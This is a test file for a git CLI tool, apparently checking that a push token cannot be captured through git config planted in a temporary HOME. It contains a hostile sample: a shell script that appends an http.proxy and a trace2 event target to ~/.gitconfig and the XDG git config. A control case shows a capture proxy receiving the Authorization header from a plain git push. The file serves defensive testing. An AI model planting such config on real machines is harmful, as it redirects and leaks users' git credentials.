/**
 * Issue 31 item 2: git config planted outside `.git/` never reaches a push. A verify command writes `http.proxy` and
 * `trace2.eventTarget` into ~/.gitconfig (a temp HOME here); the documented CLI recipe then publishes with the token
 * from the same HOME, pushing over real smart HTTP (`git http-backend` on 127.0.0.1, which demands the token) while a
 * capture proxy on 127.0.0.1 records every request it is sent. The Authorization header must reach neither the proxy
 * nor the trace file, and prepare must reject (and undo) the verify command's change to the config file.
 */
import { spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { existsSync } from 'node:fs';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { tokenAuthEnv } from '../../src/adapters/git/run/git-runner.js';
import { startCli } from '../helpers/action-runner.js';
import { startGitHttpServer, type GitHttpServer } from '../helpers/git-http-server.js';
import { makeTempDir, removeTempDirs } from '../helpers/temp-dir.js';
import { conflictScenario } from '../apply/fixtures.js';
import { gitIn } from './fixtures.js';
import { cases } from './record.js';

const reliabilityCase = cases('untrusted code and the token');

const TOKEN = `ghs_${randomBytes(18).toString('hex')}`;
const BASIC = Buffer.from(`x-access-token:${TOKEN}`).toString('base64');

interface CaptureProxy {
  url: string;
  /** Every request line and header block the proxy was sent. */
  seen: string[];
  close(): Promise<void>;
}

/** An HTTP proxy on 127.0.0.1 that records what it is sent and forwards nothing. */
async function startCaptureProxy(): Promise<CaptureProxy> {
  const seen: string[] = [];
  const server: Server = createServer((req, res) => {
    seen.push(`${req.method} ${req.url}\n${JSON.stringify(req.headers)}`);
    res.writeHead(502);
    res.end();
  });
  server.on('connect', (req, socket) => {
    seen.push(`CONNECT ${req.url}\n${JSON.stringify(req.headers)}`);
    socket.end('HTTP/1.1 502 Bad Gateway\r\n\r\n');
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    seen,
    close: () => new Promise<void>((r) => server.close(() => r())),
  };
}

let http: GitHttpServer;
let proxy: CaptureProxy;
let root = '';

beforeAll(async () => {
  root = await makeTempDir('ui-planted-http-');
  http = await startGitHttpServer(root, TOKEN);
  proxy = await startCaptureProxy();
});
afterAll(async () => {
  await http.close();
  await proxy.close();
  await removeTempDirs();
});

/** A HOME whose ~/.gitconfig is what a hostile verify command plants: a proxy and a trace2 event file. */
async function plantedHome(): Promise<{ home: string; trace: string; config: string }> {
  const home = await makeTempDir('ui-planted-home-');
  const trace = join(home, 'trace2.json');
  return { home, trace, config: plantedConfig(trace) };
}

function plantedConfig(trace: string): string {
  return `[http]\n\tproxy = ${proxy.url}\n[trace2]\n\teventTarget = ${trace}\n\teventNesting = 10\n`;
}

/** The fork as a bare repository served by the HTTP git server; returns its URL. */
async function servedFork(dir: string, name: string): Promise<string> {
  await gitIn(root, 'clone', '-q', '--bare', '--single-branch', '--branch', 'fork', dir, join(root, `${name}.git`));
  // Its default branch is the fork's, as on GitHub (the clone took the work tree's current branch).
  await gitIn(join(root, `${name}.git`), 'symbolic-ref', 'HEAD', 'refs/heads/fork');
  return `${http.url}/${name}.git`;
}

function cli(args: string[], env: Record<string, string>) {
  return startCli(args, { source: true, env }).done;
}

async function prepared(): Promise<{ s: Awaited<ReturnType<typeof conflictScenario>>; artifact: string }> {
  const s = await conflictScenario();
  const artifact = join(await makeTempDir('ui-planted-artifact-'), 'apply');
  const run = await cli(
    [
      'apply',
      '--repo',
      s.dir,
      '--commits',
      [s.sha('u1'), s.sha('u2')].join(','),
      '--base',
      'fork',
      '--upstream',
      'upstream',
      '--prepare-out',
      artifact,
    ],
    {},
  );
  expect(run.stderr).not.toMatch(/error/);
  expect(existsSync(join(artifact, 'result.json'))).toBe(true);
  return { s, artifact };
}

async function traceHolds(trace: string): Promise<boolean> {
  const text = await readFile(trace, 'utf8').catch(() => '');
  return text.includes(TOKEN) || text.includes(BASIC);
}

describe('git config planted outside .git/', () => {
  reliabilityCase(
    'control: a plain git push with the token in its environment config, from a HOME whose ~/.gitconfig has a planted http.proxy and trace2.eventTarget',
    'the capture proxy receives the Authorization header and the trace file is written: the attack works when config is read',
    async (observe) => {
      const { s } = await prepared();
      const url = await servedFork(s.dir, 'control');
      const { home, trace, config } = await plantedHome();
      await writeFile(join(home, '.gitconfig'), config);
      const before = proxy.seen.length;
      const code = await new Promise<number>((resolve) => {
        const child = spawn('git', ['push', '-q', url, 'fork:refs/heads/control'], {
          cwd: s.dir,
          env: {
            PATH: process.env.PATH ?? '',
            HOME: home,
            GIT_CONFIG_GLOBAL: join(home, '.gitconfig'),
            GIT_TERMINAL_PROMPT: '0',
            ...tokenAuthEnv(TOKEN, http.url),
          },
          stdio: 'ignore',
        });
        child.on('close', (c) => resolve(c ?? 128));
      });
      const captured = proxy.seen.slice(before);
      expect(captured.some((r) => r.includes(BASIC))).toBe(true);
      expect(existsSync(trace)).toBe(true);
      observe(
        `push exit ${code}; the proxy captured ${captured.length} request(s) with the header; trace file written`,
      );
    },
    120_000,
  );

  reliabilityCase(
    'the CLI recipe on one HOME: publish-bundle with GITHUB_TOKEN after ~/.gitconfig got a planted http.proxy and trace2.eventTarget',
    'the push reaches the token-checking server directly; the proxy gets no request, no trace file is written, the token is nowhere',
    async (observe) => {
      const { s, artifact } = await prepared();
      const url = await servedFork(s.dir, 'recipe');
      const { home, trace, config } = await plantedHome();
      await writeFile(join(home, '.gitconfig'), config);
      const before = proxy.seen.length;
      const pushesBefore = http.requests.filter((r) => r.authorized && r.path.endsWith('git-receive-pack')).length;
      const run = await cli(
        ['publish-bundle', '--from', artifact, '--repo', s.dir, '--base', 'fork', '--push', url, '--json'],
        {
          HOME: home,
          GIT_CONFIG_GLOBAL: join(home, '.gitconfig'),
          XDG_CONFIG_HOME: join(home, '.config'),
          GITHUB_TOKEN: TOKEN,
          GITHUB_SERVER_URL: http.url,
        },
      );
      expect(run.stderr).not.toMatch(/error/);
      expect(run.code).toBe(0);
      const pushes = http.requests.filter((r) => r.authorized && r.path.endsWith('git-receive-pack')).length;
      expect(pushes).toBeGreaterThan(pushesBefore);
      expect(proxy.seen.slice(before)).toEqual([]);
      // Local git calls of the run (rev-parse, merge-tree) still read the user's config and may trace; the calls to
      // the remote read none, so no push or fetch is traced.
      expect(await traceHolds(trace)).toBe(false);
      expect(await readFile(trace, 'utf8').catch(() => '')).not.toMatch(/"argv":\[[^\]]*"(?:push|fetch|ls-remote)"/);
      expect(run.stdout).not.toContain(TOKEN);
      observe(
        `pushed (${pushes - pushesBefore} authorized receive-pack request(s)); proxy: 0 requests; trace file: none`,
      );
    },
    120_000,
  );

  reliabilityCase(
    'a verify command in the prepare half writes http.proxy and trace2.eventTarget into ~/.gitconfig (apply --prepare-out --verify)',
    'the run is rejected (repo-config names ~/.gitconfig) and the file is put back as it was; nothing is pushed',
    async (observe) => {
      const s = await conflictScenario();
      const artifact = join(await makeTempDir('ui-planted-artifact-'), 'apply');
      const { home, trace, config } = await plantedHome();
      const original = '[user]\n\tname = Someone\n';
      await writeFile(join(home, '.gitconfig'), original);
      const plant = join(home, 'plant.sh');
      await writeFile(
        plant,
        `#!/bin/sh\ncat >> "$HOME/.gitconfig" <<'EOF'\n${config}EOF\nmkdir -p "$HOME/.config/git"\nprintf '[http]\\n\\tproxy = ${proxy.url}\\n' > "$HOME/.config/git/config"\n`,
      );
      await mkdir(join(home, 'x'), { recursive: true });
      const run = await cli(
        [
          'apply',
          '--repo',
          s.dir,
          '--commits',
          [s.sha('u1'), s.sha('u2')].join(','),
          '--base',
          'fork',
          '--upstream',
          'upstream',
          '--verify',
          `sh '${plant}'`,
          '--prepare-out',
          artifact,
          '--json',
        ],
        { HOME: home, GIT_CONFIG_GLOBAL: join(home, '.gitconfig') },
      );
      const text = run.stdout + run.stderr;
      expect(text).toMatch(/\.gitconfig: changed by the verify command/);
      expect(text).toMatch(/\.config\/git\/config: changed by the verify command/);
      expect(await readFile(join(home, '.gitconfig'), 'utf8')).toBe(original);
      expect(existsSync(join(home, '.config', 'git', 'config'))).toBe(false);
      expect(existsSync(trace)).toBe(false);
      const status = (JSON.parse(run.stdout) as { status: string }).status;
      expect(status).not.toBe('applied');
      observe(
        `exit ${run.code}, status ${status}; ~/.gitconfig put back, the XDG config removed; repo-config named both`,
      );
    },
    180_000,
  );
});
